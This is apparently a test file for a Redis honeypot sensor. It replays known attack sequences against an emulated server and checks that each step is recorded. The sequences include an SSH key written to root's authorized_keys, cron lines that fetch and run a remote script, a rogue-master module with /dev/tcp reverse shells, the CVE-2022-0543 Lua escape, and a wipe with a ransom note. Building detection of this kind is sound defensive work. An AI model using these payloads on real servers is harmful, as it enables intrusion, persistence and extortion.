import { describe, expect, test } from 'vitest';
import type { Act } from '../src/model/act.ts';
import { encoded } from './emulator-probes/line.ts';
import { testSensor } from './emulator-probes/test-sensor.ts';

const CRON = '\\n\\n*/2 * * * * root cd1 -fsSL http://203.0.113.9/init.sh | sh\\n\\n';
const KEY = '\\n\\n\\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 visitor@example.invalid\\n\\n\\n';
const OK = '+OK\r\n';
/** What `id` says on the pretended machine. */
const WHO = /^\$\d+\r\nuid=\d+\(redis\) gid=\d+\(redis\) groups=\d+\(redis\)\n\r\n$/;
/** CVE-2022-0543: the way out of the sandbox that Debian's packages of 6.0.16 left open. */
const ESCAPE =
  "local io = package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0', 'luaopen_io')() " +
  "local p = io.popen('id', 'r') local r = p:read('*a') p:close() return r";
const bulk = (text: string): string => `$${text.length}\r\n${text}\r\n`;
const pair = (name: string, value: string): string => `*2\r\n${bulk(name)}${bulk(value)}`;

/**
 * Requests with the replies that let the tool go on to its next step (undefined: none ever comes), and the acts that
 * tell of them.
 */
interface Attack {
  readonly name: string;
  readonly steps: readonly (readonly [request: string, reply: string | RegExp | undefined])[];
  readonly acts: readonly Partial<Act>[];
}

const attacks: readonly Attack[] = [
  {
    name: 'an SSH key for root',
    steps: [
      ['FLUSHALL', OK],
      [`SET crackit "${KEY}"`, OK],
      ['CONFIG SET dir /root/.ssh/', OK],
      ['CONFIG GET dir', pair('dir', '/root/.ssh')],
      ['CONFIG SET dbfilename authorized_keys', OK],
      ['CONFIG SET rdbcompression no', OK],
      ['SAVE', OK],
      ['INFO persistence', /rdb_changes_since_last_save:0\r\n[^]*rdb_last_bgsave_status:ok/],
    ],
    acts: [
      { type: 'redis.value', key: 'crackit', command: 'set', value: JSON.parse(`"${KEY}"`) as string },
      { type: 'redis.setting', name: 'dir', value: '/root/.ssh/', accepted: true },
      { type: 'redis.setting', name: 'dbfilename', value: 'authorized_keys', accepted: true },
      { type: 'redis.setting', name: 'rdbcompression', value: 'no', accepted: true },
      {
        type: 'redis.save',
        command: 'save',
        dir: '/root/.ssh',
        dbfilename: 'authorized_keys',
        accepted: true,
      },
    ],
  },
  {
    name: 'cron lines under backup keys, in several places',
    steps: [
      ['info', /os:Linux /],
      ['config set dbfilename backup.db', OK],
      ['save', OK],
      ['config set stop-writes-on-bgsave-error no', OK],
      ['flushall', OK],
      [`set backup1 "${CRON}"`, OK],
      [`set backup2 "${CRON}"`, OK],
      ['config set dir /var/spool/cron/', OK],
      ['config set dbfilename root', OK],
      ['save', OK],
      ['config set dir /var/spool/cron/crontabs', OK],
      ['save', OK],
      ['config set dir /etc/cron.d/', OK],
      ['config set dbfilename zzh', OK],
      ['bgsave', '+Background saving started\r\n'],
      ['config set dir /etc/', OK],
      ['config set dbfilename crontab', OK],
      ['save', '-ERR Background save already in progress\r\n'],
      ['keys *', /^\*2\r\n/],
    ],
    acts: [
      { type: 'redis.save', dir: '/var/lib/redis', dbfilename: 'backup.db' },
      { type: 'redis.value', key: 'backup1', value: JSON.parse(`"${CRON}"`) as string },
      { type: 'redis.save', dir: '/var/spool/cron', dbfilename: 'root' },
      { type: 'redis.save', dir: '/var/spool/cron/crontabs', dbfilename: 'root' },
      { type: 'redis.save', command: 'bgsave', dir: '/etc/cron.d', dbfilename: 'zzh' },
      { type: 'redis.save', dir: '/etc', dbfilename: 'crontab', accepted: false },
    ],
  },
  {
    name: 'a folder of another system, tried and refused',
    steps: [
      ['CONFIG SET dir c:\\\\temp', '-ERR Changing directory: No such file or directory\r\n'],
      ['CONFIG SET dbfilename root', OK],
      ['CONFIG GET dir', pair('dir', '/var/lib/redis')],
    ],
    acts: [
      { type: 'redis.setting', name: 'dir', accepted: false },
      { type: 'redis.setting', name: 'dbfilename', value: 'root', accepted: true },
    ],
  },
  {
    name: 'a module from a rogue master',
    steps: [
      ['MODULE LIST', '*0\r\n'],
      ['CONFIG SET dir /tmp/', OK],
      ['CONFIG SET dbfilename exp.so', OK],
      ['SLAVEOF 198.51.100.7 60114', OK],
      ['INFO replication', /role:slave\r\nmaster_host:198\.51\.100\.7\r\nmaster_port:60114\r\n/],
      ['SET k v', "-READONLY You can't write against a read only replica.\r\n"],
      ['MODULE LOAD /tmp/exp.so', OK],
      ['MODULE LOAD /tmp/exp.so', '-ERR Error loading the extension. Please check the server logs.\r\n'],
      ['SLAVEOF NO ONE', OK],
      ['CONFIG SET dbfilename dump.rdb', OK],
      ['MODULE LIST', `*1\r\n*4\r\n${bulk('name')}${bulk('system')}${bulk('ver')}:1\r\n`],
      ['INFO modules', /module:name=system,ver=1,/],
      ['COMMAND INFO system.exec', /^\*1\r\n\*7\r\n\$11\r\nsystem\.exec\r\n/],
      ['system.exec "bash -c \\"exec 6<>/dev/tcp/198.51.100.7/60114\\""', '$0\r\n\r\n'],
      ['SYSTEM.EXEC "rm -rf /tmp/exp.so"', '$0\r\n\r\n'],
      ['system.exec id', WHO],
      // Its shell takes the place of the server: it never answers.
      ['system.rev 198.51.100.7 4444', undefined],
      ['INFO commandstats', /cmdstat_system\.exec:calls=3,/],
      ['MODULE UNLOAD system', OK],
      ['MODULE UNLOAD system', '-ERR Error unloading module: no such module with that name\r\n'],
      ['system.exec id', '-ERR unknown command `system.exec`, with args beginning with: `id`, \r\n'],
    ],
    acts: [
      { type: 'redis.replica-of', host: '198.51.100.7', port: 60_114, accepted: true },
      { type: 'redis.module', action: 'load', path: '/tmp/exp.so', accepted: true },
      { type: 'redis.replica-of', host: null, port: null, accepted: true },
      {
        type: 'redis.command',
        name: 'system.exec',
        args: ['bash -c "exec 6<>/dev/tcp/198.51.100.7/60114"'],
        reply: 'ok',
      },
      { type: 'redis.module', action: 'unload', name: 'system', accepted: true },
    ],
  },
  {
    name: 'a module by a relative path, the master first',
    steps: [
      ['SLAVEOF 198.51.100.7 8886', OK],
      ['CONFIG SET dbfilename red2.so', OK],
      ['SLAVEOF NO ONE', OK],
      ['MODULE LOAD ./red2.so', OK],
      ['system.exec id', WHO],
    ],
    acts: [{ type: 'redis.module', action: 'load', path: './red2.so', accepted: true }],
  },
  {
    name: 'a module that no master brought',
    steps: [
      ['CONFIG SET dbfilename red2.so', OK],
      ['SAVE', OK],
      ['MODULE LOAD ./red2.so', '-ERR Error loading the extension. Please check the server logs.\r\n'],
    ],
    acts: [{ type: 'redis.module', action: 'load', path: './red2.so', accepted: false }],
  },
  {
    name: 'a script that reaches for the machine',
    steps: [
      [
        "EVAL \"local f = package.loadlib('x.so', 'luaopen_io')() return f.popen('id')\" 0",
        /attempt to call a nil value\r\n$/,
      ],
      [`EVAL "${ESCAPE}" 0`, WHO],
      ['SCRIPT LOAD "return 1"', bulk('e0e1f9fabfc9d4800c877a703b823ac0578ff8db')],
    ],
    acts: [
      { type: 'redis.script', via: 'eval' },
      {
        type: 'redis.script',
        via: 'script-load',
        body: 'return 1',
        sha1: 'e0e1f9fabfc9d4800c877a703b823ac0578ff8db',
      },
    ],
  },
  {
    name: 'a wipe and a note',
    steps: [
      ['SET customer:1 x', OK],
      ['FLUSHALL', OK],
      ['DBSIZE', ':0\r\n'],
      ['SET README "send 0.1 BTC to recover your data"', OK],
      ['CONFIG SET requirepass owned', OK],
      ['AUTH guess', '-WRONGPASS invalid username-password pair\r\n'],
      ['AUTH owned', OK],
      ['HELLO 2 AUTH default owned', /^\*14\r\n/],
    ],
    acts: [
      { type: 'redis.value', key: 'README' },
      { type: 'redis.setting', name: 'requirepass', value: 'owned', accepted: true },
      { type: 'redis.login', user: 'default', password: 'guess', accepted: false },
      { type: 'redis.login', user: 'default', password: 'owned', accepted: true },
    ],
  },
  {
    name: 'protection switched off',
    steps: [
      ['config set protected-mode no', OK],
      ['config set replica-read-only no', OK],
      ['config set aof-rewrite-incremental-fsync no', OK],
      ['config set rdb-save-incremental-fsync no', OK],
    ],
    acts: [
      { type: 'redis.setting', name: 'protected-mode', value: 'no', accepted: true },
      { type: 'redis.setting', name: 'replica-read-only', value: 'no', accepted: true },
    ],
  },
];

describe('a sensor lets an attack run to its end', () => {
  test.for(attacks)('$name', async ({ steps, acts }) => {
    const { recorder, visit } = await testSensor();
    let line = await visit();

    const unexpected: unknown[] = [];
    for (const [request, expected] of steps) {
      if (expected === undefined) {
        line.send(encoded(request));
        line = await visit();
        continue;
      }
      const reply = await line.request(request);
      const fits = typeof expected === 'string' ? reply === expected : expected.test(reply);
      if (!fits) unexpected.push({ request, reply, expected });
    }

    expect(unexpected).toEqual([]);
    const seen = recorder.sessions.flatMap((session) => session.acts);
    for (const act of acts) expect(seen).toContainEqual(expect.objectContaining(act));
  });

  test('across two connections: what one writes the other finds', async () => {
    const { visit } = await testSensor();
    const [scanner, exploiter] = [await visit(), await visit()];

    await scanner.request('SET probe 1');

    expect(await exploiter.request('GET probe')).toBe('$1\r\n1\r\n');
    expect(await exploiter.request('CLIENT LIST')).toMatch(/cmd=set [^\n]*\n[^\n]*cmd=client /);
  });
});
